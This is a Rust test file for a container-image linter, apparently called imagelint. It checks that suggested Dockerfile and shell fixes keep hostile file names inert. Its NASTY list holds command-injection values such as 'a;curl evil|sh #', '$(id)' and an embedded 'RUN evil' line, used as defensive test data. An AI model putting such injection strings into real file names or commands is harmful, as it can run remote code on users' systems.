//! Fixes are pasted: whatever a name in an image holds, it stays a name.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::collections::{BTreeMap, BTreeSet};
use std::fs;

use imagelint::finding::Fix;
use serde_json::{Value, json};
use support::{fixtures, lint, repository};

/// A name that nothing has to quote, and names that shells, builders and programs could take for something else.
const TAME: &str = "tame";
const NASTY: [&str; 14] = [
    "a;curl evil|sh #",
    "it's",
    "-rf",
    "--help",
    "$(id)",
    "`id`",
    "${HOME}",
    "a b",
    "a\nRUN evil",
    "a\"b",
    "*",
    "a\\",
    "a&|b",
    "\u{202e}x",
];

/// An image in which a rule finds something about `@`.
struct Case {
    rule: &'static str,
    dockerfile: &'static str,
    /// Entries as in a fixture's `layers.json`.
    entries: Value,
}

fn case(rule: &'static str, dockerfile: &'static str, entries: Value) -> Case {
    Case { rule, dockerfile, entries }
}

fn script(path: &str, text: &str) -> Value {
    json!({ "path": path, "type": "text", "text": text })
}

fn program(path: &str, program: &str) -> Value {
    json!({ "path": path, "type": "program", "program": program })
}

fn closed(mut entry: Value, mode: &str) -> Value {
    entry["mode"] = json!(mode);
    entry
}

fn cases() -> Vec<Case> {
    let sh = || program("/bin/sh", "sh");
    let capable = json!({ "path": "/@", "type": "program", "program": "ok", "capability": [21] });
    let command = r#"ENTRYPOINT ["/@"]"#;
    vec![
        case("argument-too-long", &LONG, json!([program("/@", "ok")])),
        case("arguments-in-one-string", r#"CMD ["/x @"]"#, json!([])),
        case("broken-exec-form", BROKEN, json!([program("/bin/bash", "bash")])),
        case("byte-order-mark", command, json!([sh(), script("/@", "\u{feff}#!/bin/sh\n")])),
        case("capability-not-granted", command, json!([capable])),
        case("carriage-return-in-shebang", command, json!([sh(), script("/@", "#!/bin/sh\r\n")])),
        case("command-not-found", r#"CMD ["@"]"#, json!([])),
        case("command-not-found", r#"CMD ["server"]"#, json!([program("/opt/@/server", "ok")])),
        case("command-not-found", r#"CMD ["servre"]"#, json!([program("/bin/server", "ok")])),
        case(
            "default-disposition-as-pid-1",
            r#"CMD ["/bin/busybox", "crond", "-f", "@"]"#,
            json!([program("/bin/busybox", "busybox")]),
        ),
        case("unusable-stop-signal", "STOPSIGNAL KILL\nCMD [\"/@\"]", json!([program("/@", "ok")])),
        case(
            "wait-for-sleeping-forever",
            r#"CMD ["/bin/sleep", "inf", "@"]"#,
            json!([program("/bin/sleep", "busybox")]),
        ),
        case("healthcheck-not-runnable", "CMD [\"/ok\"]\nHEALTHCHECK CMD [\"/@\"]", json!([program("/ok", "ok")])),
        case(
            "interpreter-not-executable",
            r#"CMD ["/start"]"#,
            json!([script("/start", "#!/@\n"), closed(program("/@", "ok"), "0644")]),
        ),
        case("interpreter-not-found", command, json!([sh(), script("/@", "#!/bin/bash\n")])),
        case("interpreter-not-found", r#"CMD ["/start"]"#, json!([sh(), script("/start", "#!/opt/@\n")])),
        case(
            "interpreter-not-found",
            r#"CMD ["/start"]"#,
            json!([script("/start", "#!/bin/bash\n"), program("/opt/@/bash", "ok")]),
        ),
        case("is-a-directory", r#"CMD ["/dir"]"#, json!([program("/dir/@", "ok")])),
        case(
            "library-not-found",
            r#"CMD ["/app"]"#,
            json!([
                program("/lib64/ld-linux-x86-64.so.2", "glibc-loader"),
                program("/opt/@/libgreet.so.1", "library"),
                program("/app", "needs-library"),
            ]),
        ),
        case(
            "library-not-found",
            "USER 7\nENV LD_LIBRARY_PATH=/opt\nCMD [\"/app\"]",
            json!([
                program("/lib64/ld-linux-x86-64.so.2", "glibc-loader"),
                closed(program("/opt/libgreet.so.1", "library"), "0600"),
                program("/app", "needs-library"),
            ]),
        ),
        case("loader-not-found", command, json!([program("/@", "glibc-program")])),
        case("missing-shebang", command, json!([sh(), script("/@", "echo\n")])),
        case("missing-shebang", command, json!([sh(), script("/@", "\n#!/bin/sh\n")])),
        case("missing-shebang", command, json!([sh(), script("/@", "#!\n")])),
        case("not-a-program", command, json!([script("/@", "<!DOCTYPE html><html>")])),
        case("not-a-program", command, json!([script("/@", "PK\u{3}\u{4}")])),
        case(
            "not-a-program",
            command,
            json!([script("/@", "version https://git-lfs.github.com/spec/v1\noid sha256:0\n")]),
        ),
        case("not-executable", command, json!([sh(), closed(script("/@", "#!/bin/sh\n"), "0644")])),
        case("nothing-to-run", "", json!([program("/@/start.sh", "ok")])),
        case("path-not-found", command, json!([])),
        case("path-not-found", r#"CMD ["/opt/server"]"#, json!([program("/@/server", "ok")])),
        case("permission-denied-for-user", "USER 7\nENTRYPOINT [\"/@\"]", json!([closed(program("/@", "ok"), "0700")])),
        case(
            "permission-denied-for-user",
            "USER 7\nCMD [\"/@/ok\"]",
            json!([closed(json!({ "path": "/@", "type": "directory" }), "0700"), program("/@/ok", "ok")]),
        ),
        case(
            "script-command-not-found",
            command,
            json!([program("/bin/bash", "bash"), script("/@", "#!/bin/bash\nexec app\n")]),
        ),
        case(
            "script-command-not-found",
            command,
            json!([program("/bin/bash", "bash"), script("/@", "#!/bin/bash\nexec app\n"), program("/opt/@/app", "ok")]),
        ),
        case(
            "shebang-arguments",
            command,
            json!([program("/usr/bin/env", "env"), script("/@", "#!/usr/bin/env python3 -u\n")]),
        ),
        case(
            "shebang-arguments",
            r#"CMD ["/start"]"#,
            json!([program("/usr/bin/env", "env"), script("/start", "#!/usr/bin/env x @\n")]),
        ),
        case("shell-not-found", "CMD server --port 80", json!([program("/@/sh", "ok")])),
        case("shell-syntax-in-exec-form", r#"CMD ["$SERVER", "@"]"#, json!([sh()])),
        case("shell-syntax-in-exec-form", r#"CMD ["/ok", "@", "&&", "x"]"#, json!([sh(), program("/ok", "ok")])),
        case(
            "user-not-found",
            "USER @\nCMD [\"/ok\"]",
            json!([program("/ok", "ok"), script("/etc/passwd", "x:x:1:1::/:\n")]),
        ),
        case(
            "user-not-found",
            "USER x:@\nCMD [\"/ok\"]",
            json!([program("/ok", "ok"), script("/etc/passwd", "x:x:1:1::/:\n"), script("/etc/group", "")]),
        ),
        case("background-main-process", command, shelled("/bin/sleep 9999 &\n")),
        case("missing-exec", command, shelled("/bin/sleep 9999\n")),
        case("shell-form-command", FORM, shelled("")),
        case("stops-without-telling", command, shelled("trap 'exit 0' TERM\n/bin/sleep 9999 & wait\n")),
        case("trap-blocked-by-foreground-child", command, shelled("trap 'exit 0' TERM\n/bin/sleep 9999\n")),
        case("workdir-unusable", "WORKDIR /@/x\nCMD [\"/ok\"]", json!([program("/ok", "ok"), script("/@", "")])),
        case("wrong-architecture", command, json!([program("/@", "ok-arm64")])),
    ]
}

/// A busybox with a script of its shell.
fn shelled(text: &str) -> Value {
    let text = format!("#!/bin/busybox ash\n{text}");
    json!([program("/bin/busybox", "busybox"), program("/bin/sleep", "busybox"), script("/@", &text)])
}

const FORM: &str = r#"CMD ["/bin/busybox", "ash", "-c", "/bin/sleep 9999; true", "@"]"#;
const BROKEN: &str = "SHELL [\"/bin/bash\", \"-c\"]\nCMD ['/@', 'x']";

/// A variable of 131072 bytes.
static LONG: std::sync::LazyLock<String> =
    std::sync::LazyLock::new(|| format!("ENV LONG={}\nENTRYPOINT [\"/@\"]", "x".repeat(131_072)));

/// The fixes of the rule for `case` with `name`, by title; `None` if the image cannot be written or the rule is
/// silent, as where the name gives the command another meaning.
fn fixes(case: &Case, name: &str, created_by: &str) -> Option<BTreeMap<String, String>> {
    let inner = |text: &str| {
        let json = Value::from(name).to_string();
        text.replace('@', json.trim_matches('"').strip_suffix('"').unwrap_or(&json[1..json.len() - 1]))
    };
    let (context, out) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let layers = json!([{ "created_by": created_by, "entries": case.entries }]).to_string();
    fs::write(context.path().join("layers.json"), inner(&layers)).unwrap();
    // What is not JSON has the name as it is, and cannot have a line end.
    let raw = |line: &str| if line.contains('"') { inner(line) } else { line.replace('@', &name.replace('\n', "")) };
    let lines: Vec<String> = case.dockerfile.lines().map(raw).collect();
    let text = format!("FROM scratch\n{}\n", lines.join("\n"));
    support::build::build(&text, context.path(), &repository("fixtures/programs"), out.path()).ok()?;
    let linted = lint(out.path());
    let finding = linted.findings.iter().find(|finding| finding.rule == case.rule)?;
    Some(finding.fixes.iter().map(|Fix { title, text, .. }| (title.clone(), text.clone())).collect())
}

/// What a shell or a builder makes of a fix, token by token.
fn tokens(text: &str) -> Vec<String> {
    let (instruction, rest) = text.split_once(' ').unwrap_or((text, ""));
    let mut out = vec![instruction.to_owned()];
    match instruction {
        "ENTRYPOINT" | "CMD" | "SHELL" | "HEALTHCHECK" => {
            let words: Vec<String> = serde_json::from_str(rest.trim_start_matches("CMD ")).expect(text);
            match words.as_slice() {
                [shell, option, script] if option == "-c" => {
                    out.extend([shell.clone(), option.clone()]);
                    out.extend(posix(script));
                }
                words => out.extend(words.iter().cloned()),
            }
        }
        "COPY" => {
            let (flag, paths) = rest.split_once(' ').unwrap();
            out.push(flag.to_owned());
            let json = serde_json::from_str::<Vec<String>>(paths);
            let paths = json.unwrap_or_else(|_| paths.split(' ').map(str::to_owned).collect());
            let expanded = |path: &String| path.contains(['$', '\\', '\'', '"', '*', '?', '[']);
            assert!(!paths.iter().any(expanded), "a builder expands {text}");
            out.extend(paths);
        }
        "WORKDIR" | "USER" | "FROM" => {
            assert!(!rest.contains(['$', '\\', '\'', '"']), "a builder expands {text}");
            out.extend(rest.split(' ').map(str::to_owned));
        }
        "ENV" if rest.starts_with("LD_LIBRARY_PATH=") => {
            assert!(!rest.contains(['$', '\\', '\'', '"', '`', ':', ' ']), "a builder expands {text}");
            out.push(rest.to_owned());
        }
        "ENV" => {
            let value = rest.strip_prefix("PATH=").expect(text).replace('"', "");
            let dir = value.strip_suffix(":$PATH").expect(text);
            assert!(rest.starts_with("PATH=\"") || !dir.contains(' '), "{text}");
            assert!(!dir.contains(['$', '\\', '\'', '`', ':']), "a builder expands {text}");
            out.push(dir.to_owned());
        }
        _ => out.extend(posix(rest)),
    }
    out
}

/// Words and operators of a POSIX shell; within double quotes only what the fixes themselves have there.
fn posix(text: &str) -> Vec<String> {
    let (mut out, mut word, mut open) = (Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                open = true;
                word.extend(chars.by_ref().take_while(|c| *c != '\''));
            }
            '"' => {
                open = true;
                word.extend(chars.by_ref().take_while(|c| *c != '"'));
            }
            '\\' => word.extend(chars.next()),
            ' ' if open => {
                out.push(std::mem::take(&mut word));
                open = false;
            }
            ' ' => {}
            ';' | '|' | '&' | '<' | '>' | '(' | ')' | '`' | '#' | '*' => out.push(format!("operator {c}")),
            c => {
                open = true;
                word.push(c);
            }
        }
    }
    if open {
        out.push(word);
    }
    out
}

/// The end of options, and a name with what only sed would see in it.
fn tamed(tokens: Vec<String>, name: &str) -> Vec<String> {
    tokens.into_iter().filter(|token| token != "--").map(|token| token.replace(name, TAME)).collect()
}

#[test]
fn a_name_stays_a_name_in_every_fix() {
    let mut wrong = Vec::new();
    let mut pasted = 0;
    for case in cases() {
        for created_by in ["", "COPY @ /@ # buildkit", "COPY a; evil"] {
            let tame = fixes(&case, TAME, &created_by.replace('@', TAME));
            let tame = tame.unwrap_or_else(|| panic!("{} is silent: {}", case.rule, case.dockerfile));
            for name in NASTY {
                for (title, text) in fixes(&case, name, created_by).unwrap_or_default() {
                    pasted += 1;
                    if text.contains(|c: char| c.is_control() || c == '\u{202e}') {
                        wrong.push(format!("{}: {text:?} holds what does not show", case.rule));
                    }
                    let Some(tame) = tame.get(&title) else { continue };
                    // Text that is no path: the words that were meant are guessed.
                    let guessed = match case.rule {
                        "arguments-in-one-string" | "broken-exec-form" => text.starts_with("CMD ["),
                        "shebang-arguments" => text.contains("env -S x ") && !text.contains(['&', '\\', '(', '`']),
                        _ => false,
                    };
                    let same = guessed || tamed(tokens(&text), name) == tamed(tokens(tame), name);
                    let option = text.contains(" '-") && !text.contains(" -- '-") && !text.starts_with("CMD");
                    if !same || option {
                        wrong.push(format!("{}: {name:?} gives {text}, {TAME:?} {tame}", case.rule));
                    }
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert!(pasted > 500, "{pasted}");
}

/// A rule that offers something to paste is among the cases.
#[test]
fn every_rule_with_a_fix_has_a_case() {
    let cases: BTreeSet<&str> = cases().iter().map(|case| case.rule).collect();
    let mut missing = BTreeSet::new();
    for (_, _, dir) in fixtures() {
        let out = tempfile::tempdir().unwrap();
        let text = fs::read_to_string(dir.join("Dockerfile")).unwrap();
        support::build::build(&text, &dir, &repository("fixtures/programs"), out.path()).unwrap();
        let found = lint(out.path()).findings;
        missing.extend(found.iter().filter(|f| !f.fixes.is_empty() && !cases.contains(f.rule)).map(|f| f.rule));
    }
    assert!(missing.is_empty(), "no case for {missing:?}");
}

#[test]
fn programs_that_are_no_packages_are_not_installed() {
    for name in ["$(id)", "ven v/bin/py", "sh", "-y", "entrypoint.sh"] {
        for case in cases().iter().filter(|case| matches!(case.rule, "command-not-found" | "interpreter-not-found")) {
            let found = fixes(case, name, "").unwrap_or_default();
            let installed =
                |text: &&String| text.ends_with(&format!(" {name}")) && text.contains("install") | text.contains("apk");
            assert_eq!(found.values().find(installed), None, "{name}");
        }
    }
}
